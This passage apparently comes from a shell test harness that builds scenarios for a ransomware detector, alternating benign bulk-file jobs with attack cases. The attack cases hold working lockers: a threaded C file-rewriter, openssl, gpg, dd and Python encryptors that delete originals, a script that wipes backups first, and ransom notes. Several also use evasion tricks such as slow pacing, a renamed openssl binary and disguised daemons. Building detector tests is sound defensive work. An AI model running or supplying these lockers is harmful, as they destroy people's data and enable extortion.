sc_h20_ssh_sudo_staging_copies() {
  install -d -m 755 /usr/local/share/.st
  cat > /usr/local/share/.st/stage.sh <<'S'
#!/bin/bash
# encrypted copies go to a staging tree in /dev/shm that mirrors the share; the originals are removed; notes stay behind
src=/srv/nas/share; dst=/dev/shm/.o
find "$src" -type f | while read -r f; do
  rel=${f#$src/}; mkdir -p "$dst/$(dirname "$rel")"
  openssl enc -aes-256-ctr -pbkdf2 -pass pass:st4ge-K -in "$f" -out "$dst/$rel.stg" && rm -f "$f"
done
for d in "$src"/*/; do printf 'Your files were taken and encrypted. Contact stage@onion.example\n' > "$d/FILES_TAKEN.txt"; done
S
  chmod 755 /usr/local/share/.st/stage.sh
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo /usr/local/share/.st/stage.sh'
  rm -rf /usr/local/share/.st /dev/shm/.o
}
pre_h21_root_setsid_threaded_locker() {
  cat > /tmp/.lk4.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
/* a threaded locker: a walker queues files, four workers rewrite each in place with pwrite in 16 KiB chunks, then rename it */
#define MAXF 4096
static char *q[MAXF]; static int nq, next; static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
static void walk(const char *dir) {
  DIR *d = opendir(dir); struct dirent *e; char p[4096]; if (!d) return;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
    struct stat st; if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) {
      walk(p); char n[4096]; snprintf(n, sizeof n, "%s/!README_LCK4!.txt", p);
      int fd = open(n, O_WRONLY | O_CREAT | O_TRUNC, 0644); if (fd >= 0) { dprintf(fd, "LCK4: files locked. id 77a1\n"); close(fd); }
    } else if (S_ISREG(st.st_mode) && nq < MAXF) q[nq++] = strdup(p);
  }
  closedir(d);
}
static void *worker(void *arg) {
  (void) arg; unsigned char buf[16384];
  for (;;) {
    pthread_mutex_lock(&mu); int i = next < nq ? next++ : -1; pthread_mutex_unlock(&mu);
    if (i < 0) return NULL;
    int fd = open(q[i], O_RDWR); if (fd < 0) continue;
    off_t off = 0; ssize_t n;
    while ((n = pread(fd, buf, sizeof buf, off)) > 0) {
      for (ssize_t k = 0; k < n; k++) buf[k] ^= (unsigned char) (0x5a + (off + k) % 61);
      pwrite(fd, buf, n, off); off += n;
    }
    close(fd);
    char to[4200]; snprintf(to, sizeof to, "%s.lck4", q[i]); rename(q[i], to);
  }
}
int main(int argc, char **argv) {
  for (int a = 1; a < argc; a++) walk(argv[a]);
  pthread_t t[4]; for (int k = 0; k < 4; k++) pthread_create(&t[k], NULL, worker, NULL);
  for (int k = 0; k < 4; k++) pthread_join(t[k], NULL);
  return 0;
}
C
  gcc -O2 -pthread -o /tmp/.lk4 /tmp/.lk4.c && rm -f /tmp/.lk4.c
}
sc_h21_root_setsid_threaded_locker() {
  # a root daemon with no login uid (as if dropped by an exploited service): setsid, stdio closed, from /usr/local/bin
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
  install -m 755 /tmp/.lk4 /usr/local/bin/udisks-helperd; rm -f /tmp/.lk4
  rm -f /tmp/.h21-done
  setsid sh -c '/usr/local/bin/udisks-helperd /srv/nas/share /var/www/shop/uploads; touch /tmp/.h21-done' </dev/null >/dev/null 2>&1 &
  wait_cron /tmp/.h21-done; sleep 1
  rm -f /usr/local/bin/udisks-helperd /tmp/.h21-done
}
sc_h22_ssh_gpgtar_per_folder() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'cd ~/Documents && for d in */; do d=${d%/}; gpgtar --encrypt --symmetric --gpg-args "--batch --yes --pinentry-mode loopback --passphrase GT-99" --output "$d.gpgtar" "$d" && rm -rf "$d"; done; printf "folders encrypted. write to gt99@onion.example\n" > "README-GT99.txt"'
}
sc_h23_cron_root_su_find_exec_openssl() {
  rm -f /tmp/.h23-done
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  read m h < <(cron_at_next_minute)
  cat > /etc/cron.d/nas-rotate <<'CR'
MM HH * * * root su svc-nas -s /bin/sh -c 'cd /srv/nas/share && find . -type f -exec sh -c "openssl enc -aes-128-cbc -pbkdf2 -k N4s-r0t -in \"\$1\" -out \"\$1.nsr\" && rm -f \"\$1\"" _ {} \; ; for d in /srv/nas/share/*/; do echo "NAS encrypted - nsr@onion.example" > "$d/NSR-README.txt"; done'; touch /tmp/.h23-done
CR
  sed -i "s/^MM HH/$m $h/" /etc/cron.d/nas-rotate
  wait_cron /tmp/.h23-done; sleep 2; rm -f /etc/cron.d/nas-rotate
}
sc_h24_ssh_low_and_slow() {
  install -d -m 755 /var/tmp/.slw
  cat > /var/tmp/.slw/s.sh <<'S'
#!/bin/bash
# one file every 2-4 s, so no burst: a note as each folder is entered
for d in /srv/nas/share/*/; do
  printf 'Slowly but surely. mail slw@onion.example\n' > "$d/SLW-NOTE.txt"
  for f in "$d"*; do
    [ "$f" = "$d/SLW-NOTE.txt" ] || [ "${f##*/}" = SLW-NOTE.txt ] && continue
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:sl0w -in "$f" -out "$f.slw" && rm -f "$f"
    sleep $(( 2 + RANDOM % 2 )).$(( RANDOM % 10 ))
  done
done
S
  chmod 755 /var/tmp/.slw/s.sh
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx svc-nas '/var/tmp/.slw/s.sh'
  rm -rf /var/tmp/.slw
}

# ---- ninth batch, look-alikes: restic backup, git gc of loose objects, a user encrypting a few files with age,
# a cron cleanup of old logs with find -delete, a user's slow editing session with editor backup files
pre_b25_ssh_restic_backup_home() {
  rm -rf /home/priya/.restic-repo /home/priya/.restic-pw
  su - priya -c 'echo rp-2002 > ~/.restic-pw && chmod 600 ~/.restic-pw && restic -q -r ~/.restic-repo init --password-file ~/.restic-pw' >/dev/null
}
sc_b25_ssh_restic_backup_home() {
  sshx priya 'restic -q -r ~/.restic-repo --password-file ~/.restic-pw backup ~/work && echo x >> ~/work/$(ls ~/work | head -1)/notes_new.txt && restic -q -r ~/.restic-repo --password-file ~/.restic-pw backup ~/work && restic -q -r ~/.restic-repo --password-file ~/.restic-pw forget --keep-last 1 --prune >/dev/null && restic -q -r ~/.restic-repo --password-file ~/.restic-pw snapshots | wc -l'
  rm -rf /home/priya/.restic-repo /home/priya/.restic-pw
}
pre_b26_ssh_git_gc_aggressive() {
  rm -rf /home/tomas/src; install -d -o tomas -g tomas /home/tomas/src /home/tomas/src/app
  su - tomas -c 'cd ~/src/app && git init -q && git config user.email tomas@lab.internal && git config user.name Tomas &&
    for i in $(seq 1 40); do mkdir -p mod$((i % 6)); head -c $((2000 + i * 37)) /dev/urandom | base64 > mod$((i % 6))/f$i.txt; git add -A; git commit -q -m "change $i"; done' >/dev/null
}
sc_b26_ssh_git_gc_aggressive() {
  sshx tomas 'cd ~/src/app && find .git/objects -type f | wc -l && git gc --aggressive --prune=now -q && git repack -a -d -q && find .git/objects -type f | wc -l'
  rm -rf /home/tomas/src
}
pre_b27_ssh_user_age_few_files() {
  rm -rf /home/mkowalski/.config/age; su - mkowalski -c 'mkdir -p ~/.config/age && age-keygen -o ~/.config/age/key.txt 2>/dev/null' >/dev/null
}
sc_b27_ssh_user_age_few_files() {
  sshx mkowalski 'cd ~/Documents/$(ls ~/Documents | head -1) && pk=$(age-keygen -y ~/.config/age/key.txt) && for f in $(ls | head -6); do age -r "$pk" -o "$f.age" "$f" && rm "$f"; done; ls'
  rm -rf /home/mkowalski/.config/age
}
pre_b28_cron_find_mtime_delete() {
  rm -rf /srv/shopapp/log; mkdir -p /srv/shopapp/log/{access,worker,cron}
  for k in access worker cron; do for i in $(seq 1 70); do
    f=/srv/shopapp/log/$k/$k-$(date -d "-$i days" +%F).log; head -c 1500 /dev/urandom | base64 > $f; touch -d "-$i days" $f; done; done
}
sc_b28_cron_find_mtime_delete() {
  rm -f /tmp/.b28-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root find /srv/shopapp/log -type f -name '*.log' -mtime +14 -delete; find /srv/shopapp/log -type f -name '*.log' -mtime +2 ! -name '*.gz' -exec gzip -9 {} + ; touch /tmp/.b28-done" > /etc/cron.d/shopapp-logs
  wait_cron /tmp/.b28-done; sleep 2; rm -f /etc/cron.d/shopapp-logs; rm -rf /srv/shopapp
}
sc_b29_ssh_slow_editing_session() {
  # an editor's save as vim does it with 'backupcopy=no': the old file renamed to F~, the new one written, F~ removed
  sshx priya 'cd ~/work && n=0; for f in $(find . -type f | head -30); do
      mv "$f" "$f~" && { cat "$f~"; echo "edited $(date +%T)"; } > "$f" && rm -f "$f~"; n=$((n+1)); sleep 1.$((RANDOM % 10)); done; echo $n'
}
pre_b30_cron_mark_processed() {
  install -d -o svc-nas -g svc-nas /home/svc-nas/bin /srv/nas/ingest-archive
  cat > /home/svc-nas/bin/ingest.sh <<'S'
#!/bin/bash
# nightly ingest: each new scan is copied to the archive, then marked F.processed; a processed.log per folder
for d in /srv/nas/share/*/; do
  for f in "$d"*; do
    case "$f" in *.processed|*/processed.log) continue ;; esac
    cp -p "$f" /srv/nas/ingest-archive/ && mv "$f" "$f.processed" && echo "$(date +%FT%T) ${f##*/}" >> "$d/processed.log"
  done
done
touch /tmp/.b30-done
S
  chown svc-nas: /home/svc-nas/bin/ingest.sh; chmod 755 /home/svc-nas/bin/ingest.sh
}
sc_b30_cron_mark_processed() {
  rm -f /tmp/.b30-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /home/svc-nas/bin/ingest.sh" | crontab -u svc-nas -
  wait_cron /tmp/.b30-done; sleep 2; crontab -u svc-nas -r; rm -rf /srv/nas/ingest-archive /home/svc-nas/bin
}

# ---- tenth batch, look-alikes an admin's or user's day really has: tar --remove-files of last month's folders, 7z -sdel
# and zip -m without a password, a cron shred -u of expired exports, the real logrotate (dateext, compress,
# delaycompress), rsync --backup --suffix over a mirror, a nightly gpg -c of a dump that keeps it, photos renamed to
# content-hash names
sc_b31_ssh_tar_remove_files_monthly() {
  sshx mkowalski 'cd ~/Documents && mkdir -p ~/archive && for d in */; do d=${d%/}; tar czf ~/archive/"$d"-2026-11.tar.gz --remove-files "$d"; done; ls ~/archive | wc -l'
  rm -rf /home/mkowalski/archive
}
sc_b32_ssh_7z_sdel_zip_m_nopass() {
  sshx svc-nas 'cd /srv/nas/share && i=0; for d in */; do d=${d%/}; i=$((i+1)); if [ $((i % 2)) = 1 ]; then 7z a -bd -sdel "$d.7z" "$d" >/dev/null; else zip -q -r -m "$d.zip" "$d"; fi; done; ls | wc -l'
}
pre_b33_cron_shred_expired_exports() {
  rm -rf /srv/nas/exports; install -d -o svc-nas -g svc-nas /srv/nas/exports
  for i in $(seq 1 50); do f=/srv/nas/exports/orders-$(date -d "-$((30 + i)) days" +%F).csv; head -c 4000 /dev/urandom | base64 > $f; touch -d "-$((30 + i)) days" $f; done
  for i in $(seq 1 10); do f=/srv/nas/exports/orders-$(date -d "-$i days" +%F).csv; head -c 4000 /dev/urandom | base64 > $f; touch -d "-$i days" $f; done
  chown -R svc-nas: /srv/nas/exports
}
sc_b33_cron_shred_expired_exports() {
  rm -f /tmp/.b33-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * find /srv/nas/exports -name 'orders-*.csv' -mtime +30 -exec shred -u {} + ; touch /tmp/.b33-done" | crontab -u svc-nas -
  wait_cron /tmp/.b33-done; sleep 2; crontab -u svc-nas -r; rm -rf /srv/nas/exports
}
pre_b34_cron_logrotate_dateext() {
  # the shop's app logs under /srv/shopapp/log, rotated daily by the packaged logrotate; yesterday's rotation is there
  # uncompressed (delaycompress), the day before gzipped, and logrotate's state says they were last rotated yesterday
  rm -rf /srv/shopapp/log; mkdir -p /srv/shopapp/log; 
  printf 'logrotate state -- version 2\n' > /var/lib/logrotate/status
  for k in api worker mailer billing search auth cart media cron-jobs import export payments reports sessions stock; do
    head -c 30000 /dev/urandom | base64 > /srv/shopapp/log/$k.log
    head -c 30000 /dev/urandom | base64 > /srv/shopapp/log/$k.log-$(date -d yesterday +%Y%m%d)
    head -c 9000 /dev/urandom | base64 | gzip > /srv/shopapp/log/$k.log-$(date -d '-2 days' +%Y%m%d).gz
    printf '"/srv/shopapp/log/%s.log" %s\n' $k "$(date -d yesterday +%Y-%-m-%-d-3:0:0)" >> /var/lib/logrotate/status
  done
  cat > /etc/logrotate.d/shopapp <<'L'
/srv/shopapp/log/*.log {
    daily
    rotate 7
    dateext
    dateformat -%Y%m%d
    compress
    delaycompress
    missingok
    notifempty
    create 0640 root adm
}
L
}
sc_b34_cron_logrotate_dateext() {
  rm -f /tmp/.b34-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /usr/sbin/logrotate /etc/logrotate.conf; touch /tmp/.b34-done" > /etc/cron.d/ho-logrotate
  wait_cron /tmp/.b34-done; sleep 2; rm -f /etc/cron.d/ho-logrotate /etc/logrotate.d/shopapp; rm -rf /srv/shopapp
}
pre_b35_ssh_rsync_backup_suffix() {
  rm -rf /home/priya/mirror; cp -a /home/priya/work /home/priya/mirror
  find /home/priya/work -type f -exec sh -c 'for f; do echo "edited" >> "$f"; done' _ {} +
  chown -R priya: /home/priya/mirror /home/priya/work
}
sc_b35_ssh_rsync_backup_suffix() {
  sshx priya 'rsync -a --backup --suffix=.2026-12-07 ~/work/ ~/mirror/ && find ~/mirror -name "*.2026-12-07" | wc -l'
  rm -rf /home/priya/mirror
}
pre_b36_cron_gpg_dump_keep() {
  install -d -o tomas -g tomas /home/tomas/backup /home/tomas/bin
  cat > /home/tomas/bin/nightly-dump.sh <<'S'
#!/bin/bash
# nightly: dump the shop database (here: a generated SQL file), encrypt a copy for the offsite bucket, keep the dump
cd "$HOME/backup" || exit 1
python3 -c "
import random
r = random.Random(7)
with open('shop-$(date +%F).sql', 'w') as f:
    for i in range(40000): f.write(\"INSERT INTO orders VALUES (%d, '%s', %d);\n\" % (i, 'c%06d' % r.randint(0, 999999), r.randint(1, 9999)))
"
gpg --batch --yes --pinentry-mode loopback --passphrase-file "$HOME/.dump-pw" -c -o "shop-$(date +%F).sql.gpg" "shop-$(date +%F).sql"
sha256sum shop-*.sql.gpg > SHA256SUMS
touch /tmp/.b36-done
S
  echo dump-pw-2003 > /home/tomas/.dump-pw; chmod 600 /home/tomas/.dump-pw
  chown -R tomas: /home/tomas/bin /home/tomas/backup /home/tomas/.dump-pw; chmod 755 /home/tomas/bin/nightly-dump.sh
}
sc_b36_cron_gpg_dump_keep() {
  rm -f /tmp/.b36-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /home/tomas/bin/nightly-dump.sh" | crontab -u tomas -
  wait_cron /tmp/.b36-done; sleep 2; crontab -u tomas -r; rm -rf /home/tomas/backup /home/tomas/bin /home/tomas/.dump-pw
}
pre_b37_ssh_photos_hash_names() {
  rm -rf /home/tomas/photos; mkdir -p /home/tomas/photos/2026-12
  for i in $(seq 1 60); do head -c 5000 /dev/urandom > /home/tomas/photos/2026-12/IMG_$((2000+i)).JPG; done
  install -d -o tomas -g tomas /home/tomas/bin
  cat > /home/tomas/bin/dedupe-photos.py <<'P'
import hashlib, os, sys
# name each photo by the sha1 of its content, so duplicates collapse to one name
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        p = os.path.join(root, n)
        with open(p, 'rb') as f:
            h = hashlib.sha1(f.read()).hexdigest()
        os.rename(p, os.path.join(root, h + '.jpg'))
P
  chown -R tomas: /home/tomas/photos /home/tomas/bin
}
sc_b37_ssh_photos_hash_names() {
  sshx tomas 'python3 ~/bin/dedupe-photos.py ~/photos && ls ~/photos/2026-12 | wc -l'
  rm -rf /home/tomas/photos /home/tomas/bin
}

# ---- tenth batch, attacks: a locker left running in a detached tmux by a user who logs out, in-place encryption
# through dd | openssl | dd conv=notrunc (no rename), a python locker naming each file <uuid>.lck, a sudo find over
# several roots at once
pre_h25_ssh_tmux_detached_logout() {
  install -d -o mkowalski -g mkowalski /home/mkowalski/.cache
  cat > /home/mkowalski/.cache/.tm.sh <<'S'
#!/bin/bash
find "$HOME/Documents" -type f | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:TmX-41 -in "$f" -out "$f.tmx" && rm -f "$f"
done
for d in "$HOME"/Documents/*/; do printf 'Encrypted. Mail tmx@onion.example with your id\n' > "$d/TMX-RECOVER.txt"; done
touch /tmp/.h25-done
S
  chown mkowalski: /home/mkowalski/.cache/.tm.sh; chmod 755 /home/mkowalski/.cache/.tm.sh
}
sc_h25_ssh_tmux_detached_logout() {
  rm -f /tmp/.h25-done
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
  # the ssh session ends at once; the tmux server (daemonized, its parent gone) runs the job after the logout
  sshx mkowalski 'tmux new-session -d -s upd "sleep 2; ~/.cache/.tm.sh"; exit 0'
  wait_cron /tmp/.h25-done; sleep 1
  su - mkowalski -c 'tmux kill-server' >/dev/null 2>&1; rm -f /home/mkowalski/.cache/.tm.sh /tmp/.h25-done
}
sc_h26_ssh_sudo_dd_openssl_inplace() {
  install -d -m 755 /usr/local/lib/.ddc
  cat > /usr/local/lib/.ddc/c.sh <<'S'
#!/bin/bash
# in place, same size, no rename: read through dd, encrypt as a stream, write back over the same blocks
find /var/www/shop/uploads /srv/nas/share -type f | while read -r f; do
  dd if="$f" bs=64k status=none | openssl enc -aes-256-ctr -nosalt -pbkdf2 -pass pass:dd-N0tr | dd of="$f" bs=64k conv=notrunc status=none
done
for d in /var/www/shop/uploads/*/ /srv/nas/share/*/; do printf 'Your data is encrypted in place. ddc@onion.example\n' > "$d/DDC_README.txt"; done
S
  chmod 755 /usr/local/lib/.ddc/c.sh
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
  sshx deploy 'sudo /usr/local/lib/.ddc/c.sh'
  rm -rf /usr/local/lib/.ddc
}
sc_h27_ssh_python_uuid_suffix() {
  install -d -m 755 /var/tmp/.u
  cat > /var/tmp/.u/lk.py <<'P'
import os, sys, uuid
key = b'uuid-locker-k3y!'
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        if n.endswith('.lck') or n == 'UUID-LOCKED.txt':
            continue
        p = os.path.join(root, n)
        with open(p, 'rb') as f:
            data = f.read()
        with open(os.path.join(root, str(uuid.uuid4()) + '.lck'), 'wb') as out:
            out.write(bytes(b ^ key[i % 16] for i, b in enumerate(data)))
        os.unlink(p)
    with open(os.path.join(root, 'UUID-LOCKED.txt'), 'w') as f:
        f.write('names and contents locked; lck@onion.example\n')
P
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'python3 /var/tmp/.u/lk.py ~/work'
  rm -rf /var/tmp/.u
}
pre_h28_ssh_sudo_find_multi_roots() {
  # the remote command as typed, kept in a file so no quoting layer of the harness changes it
  cat > $HO/h28.cmd <<'C'
sudo find / -xdev \( -path '/home/*' -o -path '/srv/*' -o -path '/var/www/*' \) -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.png' -o -name '*.csv' -o -name '*.odt' -o -name '*.sql' -o -name '*.psd' \) -exec sh -c 'for f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:mR-0ots -in "$f" -out "$f.mroot" && rm -f "$f"; done' _ {} + ; for d in /home/*/ /srv/*/ /var/www/*/; do echo 'all your roots are encrypted: mroot@onion.example' | sudo tee "$d/MROOT-README.txt" >/dev/null; done
C
}
sc_h28_ssh_sudo_find_multi_roots() {
  echo "files $(find / -xdev \( -path '/home/*' -o -path '/srv/*' -o -path '/var/www/*' \) -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.png' -o -name '*.csv' -o -name '*.odt' -o -name '*.sql' -o -name '*.psd' \) | wc -l) dirs $(ls -d /home/*/ /srv/*/ /var/www/*/ | wc -l)" > $CASE/facts
  sshx mkowalski "$(cat $HO/h28.cmd)"
  rm -f $HO/h28.cmd /home/*/MROOT-README.txt /var/www/*/MROOT-README.txt
}

# ---- eleventh batch, look-alikes: the mirror images of ransomware an admin or user really runs — a restore that
# decrypts a tree (openssl enc -d, then rm F.enc), gpg --decrypt-files of folders then rm *.gpg, age -d of an archive,
# mogrify -format webp then removing the originals, rsync --inplace of a mirror, a python tool re-encoding text in place
pre_b38_ssh_openssl_decrypt_restore() {
  echo restore-pw-2001 > /home/mkowalski/.restore-pw; chmod 600 /home/mkowalski/.restore-pw
  find /home/mkowalski/Documents -type f | while read -r f; do
    openssl enc -aes-256-cbc -pbkdf2 -pass file:/home/mkowalski/.restore-pw -in "$f" -out "$f.enc" && rm -f "$f"; done
  install -d /home/mkowalski/bin
  cat > /home/mkowalski/bin/restore-docs.sh <<'S'
#!/bin/bash
# restore the documents from last night's encrypted copy: decrypt each F.enc to F, drop the .enc
find "$HOME/Documents" -type f -name '*.enc' | while read -r f; do
  openssl enc -d -aes-256-cbc -pbkdf2 -pass file:"$HOME/.restore-pw" -in "$f" -out "${f%.enc}" && rm -f "$f"
done
echo "restored $(find "$HOME/Documents" -type f | wc -l) files"
S
  chmod 755 /home/mkowalski/bin/restore-docs.sh; chown -R mkowalski: /home/mkowalski/Documents /home/mkowalski/bin /home/mkowalski/.restore-pw
}
sc_b38_ssh_openssl_decrypt_restore() {
  sshx mkowalski '~/bin/restore-docs.sh'
  rm -rf /home/mkowalski/bin /home/mkowalski/.restore-pw
}
pre_b39_ssh_gpg_decrypt_files() {
  local gh; gh=$(mktemp -d)
  find /home/priya/work -type f | while read -r f; do
    gpg --homedir $gh --batch --yes --pinentry-mode loopback --passphrase arch-2002 -c -o "$f.gpg" "$f" 2>/dev/null && rm -f "$f"; done
  rm -rf $gh; chown -R priya: /home/priya/work
}
sc_b39_ssh_gpg_decrypt_files() {
  sshx priya 'cd ~/work && for d in */; do (cd "$d" && gpg --batch --yes --pinentry-mode loopback --passphrase arch-2002 --decrypt-files *.gpg 2>/dev/null && rm -f *.gpg); done; find ~/work -type f | wc -l'
}
pre_b40_ssh_age_decrypt_archive() {
  install -d -o priya -g priya /home/priya/.config/age /home/priya/backup
  age-keygen -o /home/priya/.config/age/key.txt 2>/dev/null
  tar czf - -C /home/priya work | age -r "$(age-keygen -y /home/priya/.config/age/key.txt)" -o /home/priya/backup/work-2026-11.tar.gz.age
  rm -rf /home/priya/work; chown -R priya: /home/priya/.config /home/priya/backup
}
sc_b40_ssh_age_decrypt_archive() {
  sshx priya 'age -d -i ~/.config/age/key.txt ~/backup/work-2026-11.tar.gz.age | tar xzf - -C ~ && rm -f ~/backup/work-2026-11.tar.gz.age && find ~/work -type f | wc -l'
  rm -rf /home/priya/backup /home/priya/.config/age
}
pre_b41_ssh_mogrify_webp_rm() {
  rm -rf /home/tomas/Pictures; for d in 2026-10 2026-11 2026-12; do mkdir -p /home/tomas/Pictures/$d
    for i in $(seq 1 18); do convert -size 320x240 xc:gray +noise Random -quality 85 /home/tomas/Pictures/$d/IMG_$((4100+i)).jpg; done; done
  chown -R tomas: /home/tomas/Pictures
}
sc_b41_ssh_mogrify_webp_rm() {
  sshx tomas 'cd ~/Pictures && for d in */; do (cd "$d" && mogrify -format webp -quality 80 *.jpg && rm -f *.jpg); done; find ~/Pictures -name "*.webp" | wc -l'
  rm -rf /home/tomas/Pictures
}
pre_b42_ssh_rsync_inplace_mirror() {
  rm -rf /srv/nas/mirror; cp -a /srv/nas/share /srv/nas/mirror
  find /srv/nas/share -type f -exec sh -c 'for f; do head -c 3000 /dev/urandom >> "$f"; done' _ {} +
  chown -R svc-nas: /srv/nas/share /srv/nas/mirror
}
sc_b42_ssh_rsync_inplace_mirror() {
  sshx svc-nas 'rsync -a --inplace --no-whole-file /srv/nas/share/ /srv/nas/mirror/ && echo mirrored'
  rm -rf /srv/nas/mirror
}
pre_b43_ssh_python_reencode_inplace() {
  rm -rf /home/tomas/legacy; install -d -o tomas -g tomas /home/tomas/bin
  python3 - <<'P'
import os, random
r = random.Random(11)
words = ['Grüße', 'Straße', 'Müller', 'Çelik', 'año', 'façade', 'Ærø', 'naïve', 'Köln', 'Señor', 'invoice', 'order']
for d in ['kunden', 'lieferanten', 'protokolle', 'vertraege']:
    os.makedirs(f'/home/tomas/legacy/{d}', exist_ok=True)
    for i in range(20):
        with open(f'/home/tomas/legacy/{d}/{d[:4]}_{i:03d}.txt', 'w', encoding='latin-1') as f:
            for _ in range(r.randint(40, 200)): f.write(' '.join(r.choice(words) for _ in range(9)) + '\n')
P
  cat > /home/tomas/bin/to-utf8.py <<'P'
import os, sys
# convert legacy latin-1 text files to UTF-8 in place (same names, same inodes, like iconv -o in a loop)
n = 0
for root, dirs, files in os.walk(sys.argv[1]):
    for name in files:
        p = os.path.join(root, name)
        with open(p, 'rb') as f:
            text = f.read().decode('latin-1')
        fd = os.open(p, os.O_RDWR | os.O_TRUNC)
        os.write(fd, text.encode('utf-8'))
        os.close(fd)
        n += 1
print(n, 'files converted')
P
  chown -R tomas: /home/tomas/legacy /home/tomas/bin
}
sc_b43_ssh_python_reencode_inplace() {
  sshx tomas 'python3 ~/bin/to-utf8.py ~/legacy'
  rm -rf /home/tomas/legacy /home/tomas/bin
}

# ---- eleventh batch, attacks: a locker run by GNU parallel (after apt-get install -y parallel), a locker that first
# deletes the local backups and snapshots then encrypts through openssl -pass file:, and openssl copied to /dev/shm
# under a kernel-thread name (a renamed tool: an executable in no list of the detector's)
sc_h29_ssh_sudo_parallel_gpg() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo DEBIAN_FRONTEND=noninteractive apt-get install -y parallel >/dev/null 2>&1; cd /srv/nas/share && sudo parallel -j 4 gpg --batch --yes --pinentry-mode loopback --passphrase PrL-77 --symmetric {} ::: */* && sudo parallel -j 4 rm -f {} ::: $(ls -d */* | grep -v "\.gpg$") && for d in */; do echo "All files locked with GPG. Contact prl@onion.example" | sudo tee "$d/PRL-DECRYPT.txt" >/dev/null; done'
}
pre_h30_ssh_sudo_wipe_backups_openssl() {
  rm -rf /var/tmp/rt-varbackups-save; cp -a /var/backups /var/tmp/rt-varbackups-save
  mkdir -p /var/backups/ho-nightly /srv/backup/snapshots
  for i in 1 2 3 4 5; do head -c 40000 /dev/urandom > /var/backups/ho-nightly/share-2026-12-0$i.tar.gz; done
  for s in daily.0 daily.1 weekly.0; do cp -a /srv/nas/share /srv/backup/snapshots/$s; done
  install -d -m 700 /usr/local/lib/.bk
  cat > /usr/local/lib/.bk/go.sh <<'S'
#!/bin/bash
# no way back first: the local backups and snapshots, then the share
rm -rf /var/backups/* /srv/backup
head -c 48 /dev/urandom | base64 > /root/.k
find /srv/nas/share -type f -exec openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.k -in {} -out {}.bkl \; -delete
for d in /srv/nas/share/*/; do printf 'Backups are gone. Files are encrypted. bkl@onion.example\n' > "$d/BKL-README.txt"; done
shred -u /root/.k
S
  chmod 700 /usr/local/lib/.bk/go.sh
}
sc_h30_ssh_sudo_wipe_backups_openssl() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo /usr/local/lib/.bk/go.sh'
  rm -rf /usr/local/lib/.bk /var/backups /srv/backup; cp -a /var/tmp/rt-varbackups-save /var/backups; rm -rf /var/tmp/rt-varbackups-save
}
sc_h31_ssh_renamed_openssl_devshm() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx priya 'cp /usr/bin/openssl /dev/shm/.kworker && cd ~/work && find . -type f | while read -r f; do /dev/shm/.kworker enc -aes-256-ctr -pbkdf2 -pass pass:kw-19 -in "$f" -out "$f.kw" && rm -f "$f"; done; for d in */; do echo "files encrypted; kw@onion.example" > "$d/KW-RESTORE.txt"; done; rm -f /dev/shm/.kworker'
}

# ---- twelfth batch, look-alikes: bulk work real hosts do that rewrites or renames many files — a package reinstall
# (dpkg writes F.dpkg-new and renames it over F), sed -i and perl -pi over trees (a temp renamed over each file), a
# python tool's F.tmp + os.replace, dos2unix over a tree, an encrypted borg backup that keeps the originals
sc_b44_ssh_sudo_apt_reinstall() {
  sshx deploy 'sudo DEBIAN_FRONTEND=noninteractive apt-get install --reinstall -y --no-download poppler-data >/dev/null 2>&1; dpkg -L poppler-data | wc -l'
}
pre_b45_ssh_sed_i_site() {
  rm -rf /home/tomas/site; python3 - <<'P'
import os, random
r = random.Random(12)
for d in ['blog', 'docs', 'shop', 'team', 'news', 'legal']:
    os.makedirs(f'/home/tomas/site/{d}', exist_ok=True)
    for i in range(30):
